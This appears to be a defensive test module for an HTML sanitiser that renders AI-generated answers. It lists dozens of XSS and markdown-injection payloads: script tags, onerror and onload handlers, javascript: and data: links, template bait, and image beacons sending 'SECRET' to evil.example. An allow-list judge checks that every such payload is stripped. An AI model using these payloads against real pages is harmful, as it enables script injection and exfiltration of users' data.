"""Hostile answers, and what no page may ever show of them."""

from __future__ import annotations

from html.parser import HTMLParser

from ai_answers.rendering.sanitise import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    CITATION_CLASS,
    LINK_REL,
)

PAYLOADS = {
    "script": "Hello <script>alert(1)</script> there",
    "script in mixed case": "<ScRiPt >alert(1)</sCrIpT\t>",
    "script in a list": "- a <script src=//evil.example/x.js></script>\n- b",
    "script in a table": "| a | b |\n|---|---|\n| <script>x</script> | <b onclick=x>y</b> |",
    "script in a fence": "```html\n<script>alert(1)</script>\n```",
    "fence info as attribute": '```html" onload="alert(1)\nx\n```',
    "fence that never closes": "```\n</code></pre><script>alert(1)</script>",
    "code span": "`<img src=x onerror=alert(1)>` and `</code><script>`",
    "indented code": "    </code></pre><svg onload=alert(1)>\n",
    "image with handler": '<img src="x" onerror="alert(1)">',
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "math": '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    "style and title": '<svg><style><a title="</style><img src=x onerror=alert(1)>">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "textarea": "<textarea></p><script>x</script></textarea>",
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object and embed": "<object data=data:text/html,x></object><embed src=//evil.example>",
    "base": "<base href=//evil.example/>",
    "meta": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "link": "<link rel=stylesheet href=//evil.example/x.css>",
    "style": "<style>@import '//evil.example/x.css';</style><p style=background:url(//e)>",
    "form": "<form action=//evil.example><input name=password><button>go</button></form>",
    "form attribute": '<button form=login formaction="javascript:alert(1)">',
    "clobbering": "<a id=cookie name=body href=#x>x</a><img name=getElementById>",
    "comment": "<!-- > --><script>x</script> <!--[if IE]><script>y</script><![endif]-->",
    "declaration": "<!DOCTYPE html><?php echo 1 ?><![CDATA[<script>x</script>]]>",
    "javascript link": "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1))",
    "javascript by entity": "[x](javascript&colon;alert(1)) [y](&#106;avascript:alert(1))",
    "javascript with a tab": "[x](java\tscript:alert(1)) [y](<java\nscript:alert(1)>)",
    "javascript autolink": "<javascript:alert(1)> <JAVASCRIPT:x>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=) <data:text/html,x>",
    "vbscript and file": "[x](vbscript:msgbox) [y](file:///etc/passwd) [z](blob:x)",
    "title that breaks out": "[x](/y \"onmouseover='alert(1)'\") [z](/q '\"><script>')",
    "address that breaks out": '[x](/y"onclick="alert) [z](/a><script>) [q](</a"b>)',
    "image beacon": "![s](https://evil.example/c?q=SECRET) ![s][z]\n\n[z]: //evil.example/x",
    "image in a link": "[![a](//evil.example/p.gif)](https://evil.example/)",
    "reference link": "[receipt][z]\n\ntext\n\n[z]: https://evil.example/c?q=SECRET",
    "nested links": "[a [b](javascript:x) c](javascript:y) [[x]](//evil.example)",
    "footnote": "text[^1]\n\n[^1]: <script>x</script>",
    "heading with attributes": "# Title {#body onclick=x}\n\nSet <b>\n===",
    "forged chip": '<sup class="ai-answers-citation"><a data-ref-index="1">1</a></sup>',
    "forged chip by entity": "&lt;a data-ref-index=&quot;1&quot;&gt;1&lt;/a&gt;",
    "chip in a bad link": "[see [1]](javascript:alert(1)) [1](javascript:alert(1))",
    "attribute in a citation": '[1" onclick="x] [1](<"onclick=x>)',
    "template bait": "{{ settings.SECRET_KEY }} {% debug %} ${7*7} <%= 1 %>",
    "controls": "\x1b[2Jred\x07\x08 \x00nul \x9b31m \u202eabc\u202c",
    "nul in a tag": "<scr\0ipt>alert(1)</scr\0ipt> [x](java\0script:alert(1))",
    "surrogates": "a \ud83d b \ude00\ud83d c",
    "broken ends": "**bold [link](/x `code <script",
    "deep quotes": ">" * 60 + "<script>x</script>",
    "deep list": "- " * 60 + "<script>x</script>",
    "deep emphasis": "**a _b " * 40 + "<img src=x onerror=y>",
    "cell with a pipe": "| a\\|<script> | `x|y` |\n|---|---|\n| <img onerror=x> | b | c |",
    "align injection": '| a |\n|:-:" onclick="x|\n| b |',
    "start injection": '1" onclick="x. a\n2. b',
    "separators": "a\u2028<script>\u2029x</script>\x0b\x0c<b>",
    "raw text end tags": "</p></li></ul></div></body></html><script>x</script>",
    "plaintext": "<plaintext><xmp><listing>",
}


class _Judge(HTMLParser):
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED_TAGS, tag
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, ()), (tag, name)
            value = value or ""
            if name == "href":
                assert value.startswith(("/", "#", "?", "https://site.example/")), value
                assert not value.startswith("//"), value
            else:
                assert value in ("left", "right", "center", CITATION_CLASS, LINK_REL) or (
                    value.isdigit()
                ), (name, value)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def judge(html: str) -> None:
    """Fail if the HTML holds any tag or attribute that is not on the list."""
    parser = _Judge()
    parser.feed(html)
    parser.close()
